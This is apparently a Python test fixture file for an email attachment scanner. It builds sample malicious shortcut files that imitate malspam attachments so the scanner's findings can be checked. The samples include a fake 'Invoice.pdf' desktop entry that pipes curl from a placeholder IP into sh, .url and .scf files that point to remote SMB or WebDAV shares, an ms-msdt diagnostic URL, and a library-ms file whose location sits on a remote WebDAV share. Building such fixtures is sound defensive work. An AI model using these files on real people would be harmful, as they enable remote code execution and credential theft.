"""Shortcut files that are not .lnk: one message per finding id (merged by tests/cases.py).

The fixtures are the forms malspam used: an Internet shortcut to an executable on a share,
a search-ms: query of a WebDAV folder, a Shell Command File whose icon is on a share, a
library file whose location is a WebDAV folder and a desktop entry that pipes curl to sh.
"""

from __future__ import annotations

from cases import Case, with_attachment

from mailcheck.limits import DEFAULT

OCTET = "application/octet-stream"
HOST = "198.51.100.7"

URL_SMB = (
    b"[InternetShortcut]\r\n"
    b"URL=file://198.51.100.7/share/invoice.exe\r\n"
    b"IconIndex=3\r\n"
    b"IconFile=C:\\Windows\\System32\\shell32.dll\r\n"
)
URL_WEBDAV = (
    b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n"
    b"[InternetShortcut]\r\nIDList=\r\n"
    b"URL=file://198.51.100.7@SSL/DavWWWRoot/Downloads/invoice.url\r\n"
)
URL_SEARCH = (
    b"[InternetShortcut]\r\n"
    b"URL=search-ms:query=invoice&crumb=location:%5C%5C198.51.100.7@80%5Cshare"
    b"&displayname=Invoices\r\n"
)
URL_MSDT = b"[InternetShortcut]\r\nURL=ms-msdt:/id PCWDiagnostic /skip force /param x\r\n"
URL_REMOTE_ICON = (
    b"[InternetShortcut]\r\n"
    b"URL=https://intranet.example.com/reports/q3.html\r\n"
    b"IconFile=\\\\198.51.100.7\\share\\icon.ico\r\n"
    b"IconIndex=0\r\n"
)
URL_WEB = (
    b"[DEFAULT]\r\nBASEURL=https://www.example.com/\r\n"
    b"[InternetShortcut]\r\nURL=https://www.example.com/\r\nIDList=\r\nHotKey=0\r\n"
    b"IconFile=https://www.example.com/favicon.ico\r\nIconIndex=1\r\n"
)
URL_LOCAL = b"[InternetShortcut]\r\nURL=file:///C:/Users/Public/Documents/report.pdf\r\n"
SCF = (
    b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\icon.ico\r\n"
    b"[Taskbar]\r\nCommand=ToggleDesktop\r\n"
)
SCF_BENIGN = (
    b"[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
)
LIBRARY_MS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n'
    b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">\r\n'
    b"  <name>@windows.storage.dll,-34582</name>\r\n  <version>6</version>\r\n"
    b"  <isLibraryPinned>true</isLibraryPinned>\r\n"
    b"  <iconReference>imageres.dll,-1003</iconReference>\r\n"
    b"  <templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType>"
    b"</templateInfo>\r\n"
    b"  <searchConnectorDescriptionList>\r\n    <searchConnectorDescription>\r\n"
    b"      <isDefaultSaveLocation>true</isDefaultSaveLocation>\r\n"
    b"      <isSupported>false</isSupported>\r\n"
    b"      <simpleLocation><url>\\\\198.51.100.7@SSL\\DavWWWRoot\\Invoices</url>"
    b"</simpleLocation>\r\n"
    b"    </searchConnectorDescription>\r\n  </searchConnectorDescriptionList>\r\n"
    b"</libraryDescription>\r\n"
)
SEARCH_CONNECTOR = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n'
    b'<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/'
    b'searchConnector">\r\n'
    b"  <description>Invoices</description>\r\n"
    b"  <isSearchOnlyItem>false</isSearchOnlyItem>\r\n"
    b"  <includeInStartMenuScope>true</includeInStartMenuScope>\r\n"
    b"  <simpleLocation><url>https://198.51.100.7/dav/</url></simpleLocation>\r\n"
    b"</searchConnectorDescription>\r\n"
)
LIBRARY_LOCAL = LIBRARY_MS.replace(
    b"\\\\198.51.100.7@SSL\\DavWWWRoot\\Invoices", b"C:\\Users\\Public\\Documents"
)
LIBRARY_REMOTE_ICON = LIBRARY_LOCAL.replace(
    b"imageres.dll,-1003", b"\\\\198.51.100.7\\share\\lib.ico,0"
)
DESKTOP = (
    b"[Desktop Entry]\nType=Application\nName=Invoice.pdf\nIcon=application-pdf\n"
    b'Exec=sh -c "curl -s http://198.51.100.7/a.sh | sh"\nTerminal=false\n'
)
DESKTOP_APP = (
    b"[Desktop Entry]\nType=Application\nName=Writer\nIcon=libreoffice-writer\n"
    b"Exec=libreoffice --writer %U\nTerminal=false\n"
)
DESKTOP_SMB_LINK = b"[Desktop Entry]\nType=Link\nName=Invoices\nURL=smb://198.51.100.7/share\n"

CASES: dict[str, Case] = {
    "attachment.url_shortcut": lambda: (with_attachment(URL_SMB, "invoice.url", OCTET), DEFAULT),
    "attachment.url_shortcut_web": lambda: (
        with_attachment(URL_WEB, "Example.url", OCTET),
        DEFAULT,
    ),
    "attachment.remote_icon": lambda: (
        with_attachment(URL_REMOTE_ICON, "q3.url", OCTET),
        DEFAULT,
    ),
    "attachment.library_ms": lambda: (
        with_attachment(LIBRARY_MS, "Invoices.library-ms", OCTET),
        DEFAULT,
    ),
    "attachment.scf": lambda: (with_attachment(SCF, "@invoice.scf", OCTET), DEFAULT),
    "attachment.desktop_entry": lambda: (
        with_attachment(DESKTOP, "Invoice.pdf.desktop", OCTET),
        DEFAULT,
    ),
    "attachment.shortcut_file": lambda: (
        with_attachment(SCF_BENIGN, "Show Desktop.scf", OCTET),
        DEFAULT,
    ),
}
